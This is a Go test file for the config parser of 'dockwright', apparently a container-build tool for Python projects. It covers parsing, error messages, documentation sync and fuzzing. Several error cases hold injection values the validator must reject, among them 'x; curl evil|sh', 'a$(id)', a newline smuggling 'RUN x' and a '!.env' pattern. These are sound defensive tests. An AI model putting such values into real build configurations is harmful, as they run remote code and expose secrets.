@@ -1,0 +1,251 @@
+package config
+
+import (
+	"errors"
+	"os"
+	"reflect"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/dockwright/dockwright/detect/facts"
+)
+
+// TestKeys holds that the documented keys are those of the struct, in its order.
+func TestKeys(t *testing.T) {
+	var tags func(s reflect.Type, prefix string) []string
+	tags = func(s reflect.Type, prefix string) []string {
+		var out []string
+		for i := range s.NumField() {
+			f := s.Field(i)
+			switch tag := f.Tag.Get("toml"); {
+			case tag == "":
+				t.Errorf("%s has no toml tag", f.Name)
+			case tag == "-":
+			case f.Type.Kind() == reflect.Struct:
+				out = append(out, tags(f.Type, prefix+tag+".")...)
+			default:
+				out = append(out, prefix+tag)
+			}
+		}
+		return out
+	}
+	if diff := cmp.Diff(tags(reflect.TypeFor[Config](), ""), Keys()); diff != "" {
+		t.Errorf("the struct's tags and Keys() differ:\n%s", diff)
+	}
+}
+
+// TestPage holds that docs/configuration.md has a heading for each key, in the
+// order of Keys(), and for no other, and that its examples are valid.
+func TestPage(t *testing.T) {
+	page, err := os.ReadFile("../../docs/configuration.md")
+	if err != nil {
+		t.Fatal(err)
+	}
+	text := strings.ReplaceAll(string(page), "\r\n", "\n")
+	var headings []string
+	for line := range strings.Lines(text) {
+		if h, ok := strings.CutPrefix(strings.TrimSpace(line), "### `"); ok {
+			headings = append(headings, strings.TrimSuffix(h, "`"))
+		}
+	}
+	if diff := cmp.Diff(Keys(), headings); diff != "" {
+		t.Errorf("Keys() and the headings of docs/configuration.md differ:\n%s", diff)
+	}
+	seen := map[string]bool{}
+	for i, block := range strings.Split(text, "```toml\n")[1:] {
+		block, _, _ = strings.Cut(block, "```")
+		name := FileName
+		if strings.Contains(block, "[tool.dockwright") {
+			name = "pyproject.toml"
+		}
+		c, err := Parse(name, []byte(block))
+		if err != nil {
+			t.Errorf("example %d of docs/configuration.md: %v\n%s", i+1, err, block)
+		}
+		if c.Path == "" {
+			t.Errorf("example %d of docs/configuration.md configures nothing:\n%s", i+1, block)
+		}
+		for _, key := range Keys() {
+			seen[key] = seen[key] || strings.Contains(block, key[strings.LastIndexByte(key, '.')+1:]+" = ")
+		}
+	}
+	for _, key := range Keys() {
+		if !seen[key] {
+			t.Errorf("docs/configuration.md has no example of %s", key)
+		}
+	}
+}
+
+func TestParse(t *testing.T) {
+	full := `manager = "poetry"
+package = "api"
+python = "3.13"
+base = "alpine"
+debian = "bookworm"
+groups = ["prod"]
+extras = ["cpu", "pdf"]
+requirements = ["requirements/prod.txt"]
+command = ["python", "-m", "x y"]
+port = 8080
+ignore = ["data/**", "!data/keep"]
+system-packages = { build = ["g++"], runtime = ["libpq5=15.1-0+deb12u1"] }
+`
+	want := Config{Manager: facts.Poetry, Package: "api", Python: "3.13", Base: "alpine", Debian: "bookworm", Groups: []string{"prod"},
+		Extras: []string{"cpu", "pdf"}, Requirements: []string{"requirements/prod.txt"}, Command: []string{"python", "-m", "x y"}, Port: 8080,
+		Packages: Packages{Build: []string{"g++"}, Runtime: []string{"libpq5=15.1-0+deb12u1"}}, Ignore: []string{"data/**", "!data/keep"}}
+	at := func(c Config, path string) Config { c.Path = path; return c }
+	for _, c := range []struct {
+		name, path, text string
+		want             Config
+	}{
+		{"all in a file", "dockwright.toml", full, at(want, "dockwright.toml")},
+		{"all in a pyproject", "a/pyproject.toml", "[project]\nname = \"x\"\n[tool.dockwright]\n" + full, at(want, "a/pyproject.toml")},
+		{"empty file", "a/dockwright.toml", "", Config{Path: "a/dockwright.toml"}},
+		{"empty pyproject", "pyproject.toml", "", Config{}},
+		{"empty table", "pyproject.toml", "[tool.dockwright]\n", Config{Path: "pyproject.toml"}},
+		{"table of its own", "pyproject.toml", "[tool.dockwright.system-packages]\nbuild = [\"g++\"]\n",
+			Config{Path: "pyproject.toml", Packages: Packages{Build: []string{"g++"}}}},
+		{"dotted", "pyproject.toml", "tool.dockwright.base = \"slim\"\n", Config{Path: "pyproject.toml", Base: "slim"}},
+		{"inline", "pyproject.toml", "[tool]\ndockwright = {port = 1}\n", Config{Path: "pyproject.toml", Port: 1}},
+		{"quoted", "pyproject.toml", "['tool'.\"dockwright\"]\n\"base\" = 'slim'\n", Config{Path: "pyproject.toml", Base: "slim"}},
+		{"CRLF", "dockwright.toml", "base = \"slim\"\r\nport = 1\r\n", Config{Path: "dockwright.toml", Base: "slim", Port: 1}},
+		// An empty list is a choice (nothing), a missing one is none.
+		{"no groups at all", "dockwright.toml", "groups = []\n", Config{Path: "dockwright.toml", Groups: []string{}}},
+		{"one patch release", "dockwright.toml", "python = \"3.13.2\"\n", Config{Path: "dockwright.toml", Python: "3.13.2"}},
+		// Other tables are nobody's business here.
+		{"other tables", "pyproject.toml", "[tool.poetry]\nbase = 3\n[tool.other]\ndockwright = {no = 1}\n[dockwright]\nport = \"x\"\n", Config{}},
+		{"another tool's name", "pyproject.toml", "[tool.dockwright-extra]\nbase = 3\n", Config{}},
+		{"another case", "pyproject.toml", "[tool.Dockwright]\nbase = 3\n# dockwright\n", Config{}},
+		// Without a word of us the file is not parsed: its own reader judges it.
+		{"broken pyproject of others", "pyproject.toml", "[project\n", Config{}},
+		{"a file that ends like ours", "notdockwright.toml", "base = 3\n", Config{}},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			got, err := Parse(c.path, []byte(c.text))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if diff := cmp.Diff(c.want, got); diff != "" {
+				t.Error(diff)
+			}
+		})
+	}
+}
+
+// TestParseErrors has the line, a part of the fact and a part of the remedy.
+func TestParseErrors(t *testing.T) {
+	const types = "docs/configuration.md"
+	for _, c := range []struct {
+		name, path, text string
+		line             int
+		fact, remedy     string
+	}{
+		{"broken", "dockwright.toml", "port = 1\nbase = \"slim\n", 2, "not valid TOML", "mend"},
+		{"broken with our table", "pyproject.toml", "[tool.dockwright]\n\n[project\n", 3, "not valid TOML", "mend"},
+		{"key twice", "dockwright.toml", "port = 1\nport = 2\n", 2, "port", "mend"},
+		{"unknown", "dockwright.toml", "port = 1\n\ncolour = 1\n", 3, `unknown key "colour"`, "the keys are manager, package"},
+		{"misspelt", "pyproject.toml", "[project]\nextra = 1\n[tool.dockwright]\nextra = []\n", 4, `unknown key "extra"`, `did you mean "extras"?`},
+		{"transposed", "dockwright.toml", "pyhton = \"3.13\"\n", 1, `unknown key "pyhton"`, `did you mean "python"?`},
+		{"below", "dockwright.toml", "[system-packages]\nbuilds = []\n", 2, `unknown key "system-packages.builds"`, `did you mean "system-packages.build"?`},
+		{"below, in a pyproject", "pyproject.toml", "# x\n[tool.dockwright.system-packages]\nruntime = []\ndev = []\n", 4, `unknown key "system-packages.dev"`, "the keys are"},
+		{"inline", "dockwright.toml", "system-packages = { build = [], run = [] }\n", 1, `"system-packages.run"`, "the keys are"},
+		{"table", "dockwright.toml", "[cache]\nx = 1\n", 1, `unknown key "cache"`, "the keys are"},
+		{"another case", "dockwright.toml", "base = \"slim\"\nBase = \"alpine\"\n", 2, `unknown key "Base"`, `did you mean "base"?`},
+		{"dotted name in quotes", "dockwright.toml", "\"system-packages.build\" = []\n", 1, "unknown key", "did you mean"},
+		{"the first of several", "dockwright.toml", "zz = 1\nyy = 2\nxx = 3\n", 1, `"zz"`, "the keys are"},
+		{"field without a key", "dockwright.toml", "Path = \"x\"\n", 1, `unknown key "Path"`, ""},
+		{"the tag for none", "dockwright.toml", "- = \"x\"\n", 1, `unknown key "-"`, ""},
+
+		{"integer", "pyproject.toml", "[tool.poetry]\nbase = \"x\"\n[tool.dockwright]\nbase = 3\n", 4, "base is an integer, not a string", types},
+		{"float", "dockwright.toml", "# the usual slip\npython = 3.13\n", 2, "python is a floating-point number, not a string", types},
+		{"port in quotes", "dockwright.toml", "port = \"8000\"\n", 1, "port is a string, not an integer", types},
+		{"command as a string", "dockwright.toml", "command = \"python app.py\"\n", 1, "command is a string, not an array of strings", types},
+		{"mixed array", "dockwright.toml", "command = [\n  \"x\",\n  1,\n]\n", 1, "an entry of command is an integer, not a string", types},
+		{"nested array", "dockwright.toml", "groups = [[\"x\"]]\n", 1, "an entry of groups is an array", types},
+		{"boolean", "dockwright.toml", "manager = true\n", 1, "manager is a boolean", types},
+		{"date", "dockwright.toml", "debian = 2026-01-01\n", 1, "debian is a date or time", types},
+		{"packages as a list", "dockwright.toml", "system-packages = [\"g++\"]\n", 1, "system-packages is an array, not a table", types},
+		{"ours is no table", "pyproject.toml", "[tool]\ndockwright = 3\n", 2, "tool.dockwright is an integer, not a table", types},
+		{"tool is no table", "pyproject.toml", "tool = 'dockwright'\n", 1, "tool is a string, not a table", types},
+		{"array of tables", "pyproject.toml", "\n[[tool.dockwright]]\nbase = \"slim\"\n", 2, "tool.dockwright is an array, not a table", types},
+		{"too large", "dockwright.toml", "port = 99999999999999999999\n", 1, "not valid TOML", ""},
+
+		{"manager", "dockwright.toml", "manager = \"conda\"\n", 1, `manager "conda" is not one of uv, poetry`, types},
+		{"base", "pyproject.toml", "[tool.x]\nbase = \"alpine\"\n[tool.dockwright]\nport = 1\nbase = \"ubuntu\"\n", 5, `base "ubuntu" is not one of slim, alpine`, types},
+		{"python as a range", "dockwright.toml", "python = \">=3.12\"\n", 1, "python", types},
+		{"python as a major", "dockwright.toml", "python = \"3\"\n", 1, "python", types},
+		{"python with a zero", "dockwright.toml", "python = \"3.09\"\n", 1, "python", types},
+		{"python with a line break", "dockwright.toml", "python = \"3.13\\nRUN x\"\n", 1, "python", types},
+		{"port", "dockwright.toml", "port = 65536\n", 1, "port 65536", types},
+		{"negative port", "dockwright.toml", "port = -1\n", 1, "port -1", types},
+		{"empty command", "dockwright.toml", "command = []\n", 1, "command is empty", types},
+		{"empty program", "dockwright.toml", "command = [\"\", \"x\"]\n", 1, "command is empty", types},
+		{"shell in a package", "dockwright.toml", "[system-packages]\nbuild = [\"g++\"]\nruntime = [\"x; curl evil|sh\"]\n", 3, "system-packages.runtime names", types},
+		{"option as a package", "dockwright.toml", "\n[system-packages]\nbuild = [\"--allow-unauthenticated\"]\n", 3, "system-packages.build names", types},
+		{"empty package", "dockwright.toml", "system-packages.build = [\"\"]\n", 1, "system-packages.build names", types},
+		{"expansion in a package", "dockwright.toml", "system-packages.build = [\"a$(id)\"]\n", 1, "system-packages.build names", types},
+		{"line break in ignore", "dockwright.toml", "port = 1\nignore = [\"a\\n!.env\"]\n", 2, "ignore holds a pattern", types},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			got, err := Parse(c.path, []byte(c.text))
+			var e *facts.Error
+			if !errors.As(err, &e) {
+				t.Fatalf("no *facts.Error, but %v and %+v", err, got)
+			}
+			if !reflect.DeepEqual(got, Config{}) {
+				t.Errorf("an error and half an answer: %+v", got)
+			}
+			if e.Path != c.path || e.Line != c.line {
+				t.Errorf("at %s:%d, not line %d: %s", e.Path, e.Line, c.line, e.Fact)
+			}
+			if !strings.Contains(e.Fact, c.fact) || !strings.Contains(e.Remedy, c.remedy) || e.Remedy == "" {
+				t.Errorf("said %q (%q), want %q (%q)", e.Fact, e.Remedy, c.fact, c.remedy)
+			}
+		})
+	}
+}
+
+func TestNearest(t *testing.T) {
+	for _, c := range []struct{ name, want string }{
+		{"ports", "port"}, {"group", "groups"}, {"comand", "command"}, {"requirement", "requirements"},
+		{"", ""}, {"entirely-different", ""},
+	} {
+		if got := nearest(c.name, Keys()); got != c.want {
+			t.Errorf("%q: %q, not %q", c.name, got, c.want)
+		}
+	}
+}
+
+// FuzzParse holds for any input that it ends without panic, in an answer that
+// Check accepts or in an error that names the file, and the same each time.
+func FuzzParse(f *testing.F) {
+	for _, s := range []string{
+		"[tool.dockwright]\nbase = \"alpine\"\nport = 1\n", "tool.dockwright.command = ['a']\n", "[[tool.dockwright]]\n",
+		"[tool.dockwright.system-packages]\nbuild = ['g++']\n", "a = [[[[", "dockwright\x00", "tool.dockwright = {b=1, a=2}",
+		"[tool.dockwright]\nx = 1\ny = 2\n[tool.dockwright.z]\n", "\xef\xbb\xbf[tool.dockwright]\nport=1",
+	} {
+		f.Add([]byte(s))
+	}
+	f.Fuzz(func(t *testing.T, data []byte) {
+		for _, name := range []string{"pyproject.toml", FileName} {
+			c, err := Parse(name, data)
+			again, errAgain := Parse(name, slices.Clone(data))
+			if !reflect.DeepEqual(c, again) || (err == nil) != (errAgain == nil) || err != nil && err.Error() != errAgain.Error() {
+				t.Fatalf("%v, then %v", err, errAgain)
+			}
+			if err != nil {
+				var e *facts.Error
+				if !errors.As(err, &e) || e.Path != name || e.Fact == "" || e.Remedy == "" || e.Line < 0 {
+					t.Fatalf("%#v", err)
+				}
+				continue
+			}
+			if err := c.Check(); err != nil {
+				t.Fatal(err)
+			}
+		}
+	})
+}
